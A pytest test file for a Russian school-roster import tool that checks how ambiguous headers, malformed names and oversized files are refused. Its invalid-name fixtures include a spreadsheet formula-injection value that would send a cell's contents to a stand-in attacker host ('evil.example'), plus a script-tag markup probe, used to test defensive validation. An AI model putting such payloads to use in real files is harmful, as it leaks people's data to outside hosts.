"""Strict rosters: ambiguous headers, names that cannot be stored, files far bigger than any list.

Every refusal leaves the store as it was (checked by reopening it), gives the
same message on SQLite and PostgreSQL, and prints nobody else's name.
"""

from __future__ import annotations

import openpyxl
import pytest
from click.testing import CliRunner

from sferum_onboard.cli import cli
from sferum_onboard.errors import StoreError
from sferum_onboard.tracking.roster.limits import MAX_FILE_BYTES
from sferum_onboard.tracking.store import Store
from tests.libreoffice import _libreoffice_profile, libreoffice  # noqa: F401 (fixtures)
from tests.rosterfiles import write_csv, write_xlsx
from tests.storekit import TRACKING_PROJECT, add_person, pupil, roster, store_url  # noqa: F401 (fixture)


def run(*args, db):
    return CliRunner().invoke(cli, [*map(str, args), "--db", str(db), "--project", str(TRACKING_PROJECT)])


def stored(db) -> list[tuple[str, str | None, bool]]:
    """Who is in the store, by reopening it."""
    with Store.open(str(db)) as store:
        return sorted((p.full_name, p.class_name, p.active) for s in store.schools()
                      for p in store.people(s, active=None))


@pytest.fixture
def db(tmp_path):
    return tmp_path / "store.sqlite"


# --- headers -------------------------------------------------------------------------------


def test_a_duplicated_header_is_an_error_at_the_header_and_moves_nobody(tmp_path, store_url):
    with Store.open(store_url) as store:
        add_person(store, store.get_or_create_school("Школа для тестов учёта"), "Иванов Иван", "pupil",
                   class_name="9Б")
    before = stored(store_url)
    path = write_csv(tmp_path / "5А.csv", [["ФИО", "ФИО", "Класс"], ["Иванов Иван", "Иванов Иван", "5А"]],
                     encoding="cp1251")
    result = run("roster", "import", path, db=store_url)
    assert (result.exit_code, result.stderr) == (1, (
        f"Ошибка: {path}:1:2: в заголовке два столбца об одном и том же — «ФИО» (столбец A) и «ФИО» (столбец B); "
        "непонятно, какой из них читать. Удалите или переименуйте лишний столбец\n"))
    assert stored(store_url) == before


@pytest.mark.parametrize("header, where, first, second", [
    (["№", "ФИО обучающегося", "ФИО ученика", "Класс"], "1:3", "«ФИО обучающегося» (столбец B)",
     "«ФИО ученика» (столбец C)"),
    (["ФИО", "Класс", "Кл."], "1:3", "«Класс» (столбец B)", "«Кл.» (столбец C)"),
    (["Фамилия", "Имя", "Фамилия", "Класс"], "1:3", "«Фамилия» (столбец A)", "«Фамилия» (столбец C)"),
])
def test_ambiguous_headers_in_a_workbook(tmp_path, db, header, where, first, second):
    path = write_xlsx(tmp_path / "list.xlsx", [header, ["x"] * len(header)])
    result = run("roster", "import", path, db=db)
    assert result.exit_code == 1
    assert result.stderr.startswith(f"Ошибка: {path}:{where}: в заголовке два столбца об одном и том же — "
                                    f"{first} и {second};")
    assert not db.exists() or stored(db) == []


def test_two_contact_columns_are_not_ambiguous(tmp_path, db):
    path = write_csv(tmp_path / "p.csv", [["ФИО", "Класс", "Телефон", "Email"],
                                         ["Иванов Иван", "7А", "+7 900 000-00-01", "ivanov@example.ru"]])
    assert run("roster", "import", path, "--school", "Школа", db=db).exit_code == 0
    with Store.open(str(db)) as store:
        assert [p.contact for p in store.people(store.school())] == ["+7 900 000-00-01, ivanov@example.ru"]


# --- names that cannot be stored ------------------------------------------------------------

LONG = "Иванова Мария " + "Ивановна" * 1249  # 10,006 characters, pasted from a mangled export
HYPERLINK = '=HYPERLINK("http://evil.example/?d="&A1;"Иванов Иван")'
SCRIPT = "<script>alert(1)</script> Петров Пётр"
VALID = ("Сидорова Анна Петровна", "Орлов Илья Сергеевич")


def names_list(tmp_path):
    """Excel's «CSV (разделители — запятые)» in Russian Windows: Windows-1251, «;»."""
    return write_csv(tmp_path / "9Б.csv", [
        ["№", "ФИО", "Класс"], [1, VALID[0], "9Б"], [2, LONG, "9Б"], [3, HYPERLINK, "9Б"], [4, SCRIPT, "9Б"],
        [5, "@Козлов Олег", "9Б"], [6, "Смирнов\x07 Олег", "9Б"], [7, VALID[1], "9Б"]], encoding="cp1251")


def test_names_that_cannot_be_stored_are_row_errors_alike_on_both_stores(tmp_path, store_url):
    path = names_list(tmp_path)
    result = run("roster", "import", path, "--school", "Школа № 1", db=store_url)
    assert result.exit_code == 1
    assert result.stderr == (
        "Строки с ошибками:\n"
        f"  {path}:3:2: ФИО длиннее 200 символов (10006): «{LONG[:60]}…» — проверьте, не попал ли сюда текст "
        "из других ячеек\n"
        f"  {path}:4:2: «{HYPERLINK}»: ФИО не может начинаться с «=» — так начинаются формулы в таблицах\n"
        f"  {path}:5:2: «{SCRIPT}»: в ФИО есть знак «<» или «>» — так пишут разметку, а не имена\n"
        f"  {path}:6:2: «@Козлов Олег»: ФИО не может начинаться с «@» — так начинаются формулы в таблицах\n"
        f"  {path}:7:2: в ячейке невидимый управляющий символ (U+0007) — он попадает из других программ; "
        "перепечатайте значение\n"
        "Ничего не записано: 5 ошибок. Исправьте список или добавьте --skip-invalid, чтобы загрузить остальных.\n")
    assert not any(name in result.output for name in VALID)  # nobody else's name is printed
    assert stored(store_url) == []
    result = run("roster", "import", path, "--school", "Школа № 1", "--skip-invalid", db=store_url)
    assert result.exit_code == 0, result.output
    assert "Пропущено строк с ошибками: 5 (--skip-invalid).\n" in result.stderr
    assert stored(store_url) == sorted((name, "9Б", True) for name in VALID)


def test_a_database_error_prints_nobody_s_name(store_url, tmp_path):
    """A name longer than the column, put in through the library (the reader refuses it): PostgreSQL
    refuses the write, and the message names the error's kind, not the rows."""
    with Store.open(store_url) as store:
        if store.backend == "sqlite":
            pytest.skip("SQLite does not enforce string lengths")
        school = store.get_or_create_school("Школа № 1")
        plan = store.plan_import(school, roster("pupils", pupil(2, "Орлов Илья", "5А"), pupil(3, "Я" * 400, "5А")))
        with pytest.raises(StoreError) as error:
            store.apply_import(plan)
        assert str(error.value) == ("база отказалась принять данные (StringDataRightTruncation); ничего не "
                                    "записано — сообщите разработчикам")
        assert store.people(school) == []


# --- files far bigger than any list ----------------------------------------------------------


def test_a_file_over_the_size_limit_is_refused_before_it_is_read(tmp_path, db):
    path = tmp_path / "выгрузка.csv"
    with path.open("wb") as file:  # a sparse file: its size says 60 MB, its blocks are not read
        file.truncate(MAX_FILE_BYTES + 10 * 1024 * 1024)
    result = run("roster", "import", path, db=db)
    assert (result.exit_code, result.stderr) == (1, (
        f"Ошибка: {path}: файл слишком большой (60 МБ); список школы или района занимает несколько мегабайт, "
        "допустимо не больше 50 МБ — проверьте, тот ли это файл\n"))
    assert not db.exists() or stored(db) == []


def test_more_lines_than_any_list_are_refused_while_reading(tmp_path, db):
    path = tmp_path / "log.csv"
    path.write_bytes(b"\xd4\xc8\xce;\xca\xeb\xe0\xf1\xf1\r\n" + b"1;2\r\n" * 250_000)  # «ФИО;Класс» in cp1251
    result = run("roster", "import", path, db=db)
    assert (result.exit_code, result.stderr) == (1, (
        f"Ошибка: {path}: в файле больше 200\u00a0000 строк — больше, чем в любом списке школы или района; "
        "проверьте, тот ли это файл, или разделите список на части\n"))


def test_a_line_longer_than_any_row_is_refused(tmp_path, db):
    path = tmp_path / "dump.csv"
    path.write_text("ФИО;Класс\nИванов Иван;7А\n" + "x" * 150_000 + "\n", encoding="utf-8")
    result = run("roster", "import", path, db=db)
    assert (result.exit_code, result.stderr) == (1, (
        f"Ошибка: {path}:3: строка длиннее 100\u00a0000 символов — в списке людей таких не бывает; проверьте, "
        "тот ли это файл\n"))


@pytest.mark.parametrize("fmt", ["xlsx", "ods"])
@pytest.mark.parametrize("stray, message", [
    ("A250000", "в файле больше 200\u00a0000 строк — больше, чем в любом списке школы или района; проверьте, тот ли "
                "это файл, или разделите список на части"),
    ("AMJ10000", "на листе заняты ячейки далеко за списком — последняя занятая ячейка AMJ10000; такой лист не "
                 "прочитать. Удалите лишние строки и столбцы за списком (Ctrl+End покажет эту ячейку) и сохраните "
                 "файл заново — или сохраните лист как CSV"),
])
def test_a_sheet_reaching_far_beyond_a_list_is_refused_before_it_is_read(tmp_path, db, libreoffice, fmt, stray,
                                                                          message):
    """One stray value far down or right: calamine would hold the whole grid up to it (a billion cells
    for XFD1048576). The extent is read from the file first: XLSX's used range, ODS's rows streamed."""
    path = write_xlsx(tmp_path / "list.xlsx", [["ФИО", "Класс"], ["Иванов Иван", "7А"]])
    book = openpyxl.load_workbook(path)
    book.active[stray] = "заметка"
    book.save(path)
    saved = libreoffice.convert(path, fmt, tmp_path / "lo")
    result = run("roster", "import", saved, db=db)
    assert (result.exit_code, result.stderr) == (1, f"Ошибка: {saved}: {message}\n")
